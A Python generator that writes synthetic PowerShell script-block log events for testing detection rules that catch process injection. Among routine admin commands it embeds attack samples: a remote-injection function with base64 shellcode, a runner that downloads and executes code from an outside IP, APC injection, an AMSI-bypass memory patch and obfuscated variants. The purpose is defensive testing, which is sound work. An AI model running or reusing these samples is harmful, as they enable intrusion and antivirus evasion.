#!/usr/bin/env python3
"""Writes the bundled sample export (deterministic: same script, same bytes).

Three days of PowerShell script-block logging (event 4104) from a small company network, as
Elastic Agent stores it (ECS). Mostly routine administration, with a handful of hand-written
cases that show how the rules read text: clear injections, near misses, the SenseCM exception,
PSReflect, and a script split over several fragments. `EXPECTED.md` lists what should fire.

    python3 sample-data/generate.py        # rewrites sample-data/*.ndjson and *.json
"""
import datetime, json, os, random, uuid

HERE = os.path.dirname(os.path.abspath(__file__))
rng = random.Random(4104)

HOSTS = {
    "win10-01": "S-1-5-21-1350058589-2282154016-2764056528-1001",   # alice
    "win10-02": "S-1-5-21-1350058589-2282154016-2764056528-1002",   # carol
    "ws-fin-07": "S-1-5-21-1350058589-2282154016-2764056528-1107",  # bob (finance)
    "ws-dev-03": "S-1-5-21-1350058589-2282154016-2764056528-1203",  # dave (developer)
    "srv-db-02": "S-1-5-21-1350058589-2282154016-2764056528-2001",  # svc_backup
    "srv-file-01": "S-1-5-21-1350058589-2282154016-2764056528-500",  # Administrator
}
SYSTEM, LOCAL_SERVICE = "S-1-5-18", "S-1-5-19"
SENSECM = r"C:\ProgramData\Microsoft\Windows Defender Advanced Threat Protection\SenseCM"

BENIGN = [
    "Get-Service -Name 'Spooler','wuauserv' | Where-Object {$_.Status -ne 'Running'} | Start-Service",
    "Get-ChildItem -Path C:\\Logs -Filter *.log -Recurse | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item -WhatIf",
    "$disks = Get-CimInstance -ClassName Win32_LogicalDisk -Filter \"DriveType=3\"\nforeach ($d in $disks) {\n    '{0} {1:N1} GB free' -f $d.DeviceID, ($d.FreeSpace / 1GB)\n}",
    "Import-Module ActiveDirectory\nGet-ADUser -Filter {Enabled -eq $true} -Properties LastLogonDate |\n    Where-Object { $_.LastLogonDate -lt (Get-Date).AddDays(-90) } |\n    Select-Object SamAccountName, LastLogonDate | Export-Csv C:\\Reports\\stale.csv -NoTypeInformation",
    "Test-NetConnection -ComputerName fileserver.corp.local -Port 445",
    "Get-WinEvent -LogName System -MaxEvents 50 | Where-Object Level -le 2 | Format-Table TimeCreated, Id, Message -AutoSize",
    "Set-ExecutionPolicy -Scope Process -ExecutionPolicy Bypass -Force",
    "$PSVersionTable.PSVersion",
    "Get-Process | Sort-Object WS -Descending | Select-Object -First 10 Name, Id, @{n='WS(MB)';e={[math]::Round($_.WS/1MB,1)}}",
    "Restart-Service -Name W32Time; w32tm /resync /force",
    "Get-HotFix | Sort-Object InstalledOn -Descending | Select-Object -First 5",
    "$session = New-PSSession -ComputerName srv-file-01\nInvoke-Command -Session $session -ScriptBlock { Get-SmbShare }\nRemove-PSSession $session",
    "Get-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion' | Select-Object ProductName, ReleaseId, CurrentBuild",
    "# nightly backup check\n$last = Get-ChildItem \\\\nas01\\backups\\sql -Filter *.bak | Sort-Object LastWriteTime | Select-Object -Last 1\nif ($last.LastWriteTime -lt (Get-Date).AddHours(-26)) { Write-Warning \"Backup is stale: $($last.Name)\" }",
    "Get-NetAdapter | Where-Object Status -eq 'Up' | Get-NetIPAddress -AddressFamily IPv4",
    "Write-Host 'Mapping drives'; New-PSDrive -Name S -PSProvider FileSystem -Root \\\\fileserver\\shared -Persist",
    "Get-ScheduledTask | Where-Object { $_.State -eq 'Ready' -and $_.TaskPath -notlike '\\Microsoft\\*' }",
    "{ Set-StrictMode -Version 1; $_.PSMessageDetails }",
    "prompt",
    "$ErrorActionPreference = 'Stop'\ntry { Invoke-WebRequest -Uri https://intranet.corp.local/health -UseBasicParsing | Select-Object StatusCode }\ncatch { Write-Error $_ }",
]
BENIGN_FILES = [None, None, None, r"C:\Scripts\Maintenance.ps1", r"C:\Program Files\WindowsPowerShell\Modules\PSReadLine\2.0.0\PSReadLine.psm1", r"\\fileserver\it\deploy\Check-Backup.ps1"]

def ingested(ts):
    """The agent ships and Elasticsearch ingests a few seconds after the event."""
    t = datetime.datetime.strptime(ts, "%Y-%m-%dT%H:%M:%S.%fZ") + datetime.timedelta(seconds=3, milliseconds=417)
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (t.microsecond // 1000)

def doc(ts, host, sid, text, path=None, seq=1, total=1, sbid=None, os_type=True, category="process", user_name=None):
    d = {
        "@timestamp": ts,
        "event": {"category": category, "code": "4104", "kind": "event", "type": "info",
                  "provider": "Microsoft-Windows-PowerShell", "dataset": "windows.powershell_operational",
                  "ingested": ingested(ts)},
        "host": {"name": host, "os": {"family": "windows", "platform": "windows"}},
        "powershell": {"file": {"script_block_id": sbid or str(uuid.UUID(int=rng.getrandbits(128))),
                                "script_block_text": text},
                       "sequence": seq, "total": total},
        "user": {"id": sid},
        "winlog": {"channel": "Microsoft-Windows-PowerShell/Operational", "event_id": "4104",
                   "computer_name": host + ".corp.local", "record_id": str(rng.randint(1000, 99999)),
                   "process": {"pid": rng.randint(800, 9000), "thread": {"id": rng.randint(800, 9000)}}},
        "ecs": {"version": "8.11.0"},
    }
    if os_type:
        d["host"]["os"]["type"] = "windows"
    if path:
        directory, _, name = path.rpartition("\\")
        d["file"] = {"path": path, "directory": directory, "name": name,
                     "extension": name.rsplit(".", 1)[-1].lower() if "." in name else ""}
    if user_name:
        d["user"]["name"] = user_name
    return d

def ts(day, h, m, s, ms=0):
    return "2024-05-%02dT%02d:%02d:%02d.%03dZ" % (day, h, m, s, ms)

events = []
# Routine activity: three days, working hours mostly.
for i in range(260):
    host = rng.choice(list(HOSTS))
    sid = HOSTS[host] if rng.random() > 0.15 else SYSTEM
    day = rng.choice([20, 21, 22])
    hour = rng.choice([7, 8, 9, 10, 11, 13, 14, 15, 16, 17, 2, 23])
    events.append(doc(ts(day, hour, rng.randint(0, 59), rng.randint(0, 59), rng.randint(0, 999)),
                      host, sid, rng.choice(BENIGN), path=rng.choice(BENIGN_FILES)))

CASES = []
def case(note, d):
    CASES.append(note)
    events.append(d)

INJECT = r"""function Invoke-Inject {
    param([int]$ProcId, [byte[]]$Payload)
    $hProc = [Win32.Kernel32]::OpenProcess(0x001F0FFF, $false, $ProcId)
    $addr = [Win32.Kernel32]::VirtualAllocEx($hProc, [IntPtr]::Zero, $Payload.Length, 0x3000, 0x40)
    [UInt32]$written = 0
    [Win32.Kernel32]::WriteProcessMemory($hProc, $addr, $Payload, $Payload.Length, [ref]$written) | Out-Null
    [Win32.Kernel32]::CreateRemoteThread($hProc, [IntPtr]::Zero, 0, $addr, [IntPtr]::Zero, 0, [IntPtr]::Zero)
    # fallbacks kept from an older build: [Win32.Kernel32]::LoadLibraryW('ntdll.dll'), $n = 'Nt'+'CreateThreadEx'
}
$sc = [Convert]::FromBase64String('/EiD5PDowAAAAEFRQVBSUVZIMdJlSItSYEiLUhhIi1IgSItyUEgPt0pKTTHJSDHArDxhfAIsIEHByQ1BAcHi7VJBUUiLUiCLQjxIAdCLgIgAAABIhcB0Z0gB0FCLSBhEi0AgSQHQ41ZI/8lBizSISAHWTTHJSDHArEHByQ1BAcE44HXxTANMJAhFOdF12FhEi0AkSQHQZkGLDEhEi0AcSQHQQYsEiEgB0EFYQVheWVpBWEFZQVpIg+wgQVL/4FhBWVpIixLpV////11IugEAAAAAAAAASI2NAQEAAEG6MYtvh//Vu/C1olZBuqaVvZ3/1UiDxCg8BnwKgPvgdQW7RxNyb2oAWUGJ2v/VY2FsYy5leGUA')
Invoke-Inject -ProcId (Get-Process explorer).Id -Payload $sc"""
case("win10-01 alice: classic remote injection into explorer (OpenProcess, VirtualAllocEx, WriteProcessMemory, CreateRemoteThread)",
     doc(ts(21, 14, 7, 12, 431), "win10-01", HOSTS["win10-01"], INJECT, path=r"C:\Users\alice\Downloads\Invoke-Inject.ps1"))

RUNNER = r"""$code = @'
[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);
'@
$k32 = Add-Type -MemberDefinition $code -Name K32 -Namespace W -PassThru
$buf = (New-Object Net.WebClient).DownloadData('http://185.220.101.4/a.bin')
$mem = $k32::VirtualAlloc([IntPtr]::Zero, $buf.Length, 0x3000, 0x40)
[System.Runtime.InteropServices.Marshal]::Copy($buf, 0, $mem, $buf.Length)
$fn = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($mem, [Action])
$fn.Invoke()"""
case("ws-fin-07 bob: download-and-run shellcode runner (VirtualAlloc + GetDelegateForFunctionPointer), typed at the console",
     doc(ts(22, 9, 41, 3, 88), "ws-fin-07", HOSTS["ws-fin-07"], RUNNER))

APC = r"""$t = [AppDomain]::CurrentDomain.GetAssemblies() | ? { $_.Location -like '*System.dll' }
$k.VirtualProtect($addr, [UIntPtr]4096, 0x40, [ref]$old) | Out-Null
$hThread = $k.OpenThread(0x1FFFFF, $false, $tid)
$k.QueueUserAPC($addr, $hThread, [IntPtr]::Zero)
$k.ResumeThread($hThread)"""
case("srv-db-02 svc_backup: APC injection through reflected methods ($k.VirtualProtect, QueueUserAPC, ResumeThread)",
     doc(ts(22, 2, 13, 55, 7), "srv-db-02", HOSTS["srv-db-02"], APC, path=r"C:\Windows\Temp\tmp4F2.ps1"))

SENSE = r"""$p = [Kernel32]::OpenProcess(0x1000, $false, $pid)
$r = [Kernel32]::CreateRemoteThread($p, 0, 0, $fn, 0, 0, 0)"""
case("srv-file-01 SYSTEM in the SenseCM directory: the rule's exception, NO alert",
     doc(ts(20, 10, 0, 1, 500), "srv-file-01", SYSTEM, SENSE, path=SENSECM + r"\SenseCM.ps1"))
case("srv-file-01 LOCAL SERVICE in the SenseCM directory: also excepted, NO alert",
     doc(ts(20, 10, 5, 1, 500), "srv-file-01", LOCAL_SERVICE, SENSE, path=SENSECM + r"\SenseCM.ps1"))
case("srv-file-01 SYSTEM, SenseCM directory written in lower case: keyword match is case-sensitive, so it ALERTS",
     doc(ts(20, 10, 9, 1, 500), "srv-file-01", SYSTEM, SENSE, path=SENSECM.lower() + r"\sensecm.ps1"))
case("srv-file-01 a user account in the SenseCM directory: the exception needs SYSTEM or LOCAL SERVICE, so it ALERTS",
     doc(ts(20, 10, 14, 1, 500), "srv-file-01", HOSTS["srv-file-01"], SENSE, path=SENSECM + r"\SenseCM.ps1"))

case("win10-02 carol: LoadLibraryW and CreateThread; LoadLibraryW is not a rule term (whole tokens only), NO alert",
     doc(ts(21, 11, 2, 9, 12), "win10-02", HOSTS["win10-02"],
         "$h = [Native]::LoadLibraryW('amsi.dll')\n$t = [Native]::CreateThread(0, 0, $h, 0, 0, 0)"))
case("win10-02 carol: Invoke-VirtualAlloc and CreateRemoteThread; the pattern analyzer keeps 'invoke-virtualalloc' as one token, NO alert (alerts with --analyzer standard)",
     doc(ts(21, 11, 4, 40, 870), "win10-02", HOSTS["win10-02"],
         "Invoke-VirtualAlloc -Size 4096 | Out-Null\nInvoke-CreateRemoteThread -Target notepad"))
case("win10-02 carol: Invoke-VirtualAlloc and a method call $x.CreateRemoteThread; still NO alert under pattern",
     doc(ts(21, 11, 6, 2, 3), "win10-02", HOSTS["win10-02"],
         "$x = New-Object Injector\nInvoke-VirtualAlloc 4096\n$x.CreateRemoteThread($pid)"))
case("ws-dev-03 dave: backtick and string-concatenation obfuscation (Virtual`Alloc, 'Write'+'ProcessMemory'), NO alert",
     doc(ts(22, 15, 30, 0, 0), "ws-dev-03", HOSTS["ws-dev-03"],
         "$a = [K32]::Virtual`Alloc(0, 4096, 0x3000, 0x40)\n$f = 'Write'+'ProcessMemory'\n[K32]::$f($h, $a, $buf, 4096, [ref]0)"))
case("ws-dev-03 dave: AMSI patch with GetProcAddress, LoadLibrary and VirtualProtect but nothing from the write/execute group, NO alert",
     doc(ts(22, 15, 31, 12, 400), "ws-dev-03", HOSTS["ws-dev-03"],
         "$lib = [Win32]::LoadLibrary('amsi.dll')\n$addr = [Win32]::GetProcAddress($lib, 'AmsiScanBuffer')\n$old = 0\n[Win32]::VirtualProtect($addr, [UIntPtr]5, 0x40, [ref]$old)\n[System.Runtime.InteropServices.Marshal]::Copy([Byte[]](0xB8,0x57,0,7,0x80,0xC3), 0, $addr, 6)"))
case("ws-dev-03 dave: injection code on a host whose agent sent no host.os.type, NO alert (as in Elastic)",
     doc(ts(22, 15, 40, 0, 0), "ws-dev-03", HOSTS["ws-dev-03"], SENSE, os_type=False))
case("ws-dev-03 dave: event.category given as an array [\"process\"]: arrays match any element, so it ALERTS",
     doc(ts(22, 15, 45, 0, 0), "ws-dev-03", HOSTS["ws-dev-03"],
         "$k.OpenProcessToken($h, 0x28, [ref]$tok); $k.AdjustTokenPrivileges($tok, $false, [ref]$tp, 0, 0, 0)\n$k.SuspendThread($th)",
         category=["process"]))

PSR = r"""$Mod = New-InMemoryModule -ModuleName Win32
$FunctionDefinitions = @(
    (func kernel32 OpenProcess ([IntPtr]) @([UInt32], [Bool], [UInt32]) -SetLastError),
    (func advapi32 OpenProcessToken ([Bool]) @([IntPtr], [UInt32], [IntPtr].MakeByRefType()) -SetLastError)
)
$ProcessAccess = psenum $Mod PROCESS_ACCESS UInt32 @{ PROCESS_QUERY_INFORMATION = 0x0400; PROCESS_VM_READ = 0x0010 } -Bitfield
$Types = $FunctionDefinitions | Add-Win32Type -Module $Mod -Namespace 'Win32'"""
case("win10-01 alice: PSReflect boilerplate (New-InMemoryModule, psenum, Add-Win32Type): PSReflect rule ALERTS; injection rule does not (no write/execute name)",
     doc(ts(21, 14, 5, 50, 10), "win10-01", HOSTS["win10-01"], PSR, path=r"C:\Users\alice\Downloads\Get-Token.ps1"))
case("srv-file-01 SYSTEM running PSReflect: the PSReflect rule excludes S-1-5-18, NO alert",
     doc(ts(20, 3, 0, 0, 0), "srv-file-01", SYSTEM, PSR))
case("ws-fin-07 bob: emitting a dynamic P/Invoke type (DefineDynamicAssembly, Reflection.Emit.OpCodes) plus VirtualAlloc/CreateThread: BOTH rules alert",
     doc(ts(22, 9, 44, 18, 250), "ws-fin-07", HOSTS["ws-fin-07"],
         "$asm = [AppDomain]::CurrentDomain.DefineDynamicAssembly((New-Object Reflection.AssemblyName('x')), 'Run')\n$il.Emit([Reflection.Emit.OpCodes]::Ret)\n$m = $t::VirtualAlloc(0, $sc.Length, 0x3000, 0x40)\n$t::CreateThread(0, 0, $m, 0, 0, 0)"))

# A long loader split by PowerShell into three fragments (one script_block_id).
sbid = "7d1f6a2e-3c4b-4f0e-9b7a-2a5c8e1d9f30"
pad = "\n".join("    $table[%d] = 0x%02X" % (i, (i * 37) % 256) for i in range(140))
frag1 = "function Start-Loader {\n    $h = [K32]::OpenProcess(0x1F0FFF, $false, $target)\n" + pad
frag2 = pad.replace("table", "map") + "\n    Write-Verbose 'table ready'"
frag3 = "    $t = [K32]::CreateRemoteThread($h, 0, 0, $entry, 0, 0, 0)\n}\nStart-Loader"
for i, f in enumerate([frag1, frag2, frag3], 1):
    case("win10-02 carol: fragment %d of 3 of one script; OpenProcess is in fragment 1 and CreateRemoteThread in fragment 3, so Elastic never alerts (NO alert)" % i,
         doc(ts(21, 16, 20, 0, i), "win10-02", HOSTS["win10-02"], f, path=r"C:\Users\carol\AppData\Local\Temp\upd.ps1", seq=i, total=3, sbid=sbid))
sbid2 = "0b8e2f4d-91aa-4c7e-8d65-5e3a7c2b1f04"
for i, f in enumerate(["# stage loader\n" + pad, "$m = [K32]::VirtualAlloc(0, 4096, 0x3000, 0x40)\n[K32]::CreateThread(0, 0, $m, 0, 0, 0)"], 1):
    case("srv-db-02 svc_backup: fragment %d of 2; fragment 2 holds both groups, so only fragment 2 ALERTS" % i if i == 2 else
         "srv-db-02 svc_backup: fragment 1 of 2, padding only, NO alert",
         doc(ts(22, 2, 20, 0, i), "srv-db-02", HOSTS["srv-db-02"], f, seq=i, total=2, sbid=sbid2))

# A burst on ws-fin-07 before the runner: reconnaissance and staging, for the 48-hour timeline.
for i, text in enumerate(["whoami /all", "Get-Process -IncludeUserName | Where-Object UserName -notlike '*SYSTEM*'",
                          "Get-NetTCPConnection -State Established", "nltest /dclist:corp.local"]):
    events.append(doc(ts(22, 9, 30 + i, 0, 0), "ws-fin-07", HOSTS["ws-fin-07"], text))
# An earlier injection attempt by bob the day before, so the timeline shows two alerts.
case("ws-fin-07 bob: a first, failed attempt the day before (OpenProcess + WriteProcessMemory)",
     doc(ts(21, 17, 55, 2, 0), "ws-fin-07", HOSTS["ws-fin-07"],
         "$h = [K32]::OpenProcess(0x1F0FFF, 0, 4242)\n[K32]::WriteProcessMemory($h, $base, $patch, 6, [ref]0)\n# access denied", user_name="bob"))

events.sort(key=lambda d: d["@timestamp"])
main = [e for e in events]
with open(os.path.join(HERE, "winlogbeat-powershell-2024.05.20-22.ndjson"), "w", newline="\n") as f:
    for e in main:
        f.write(json.dumps(e, ensure_ascii=False) + "\n")
print(len(main), "events")
for c in CASES:
    print("-", c)
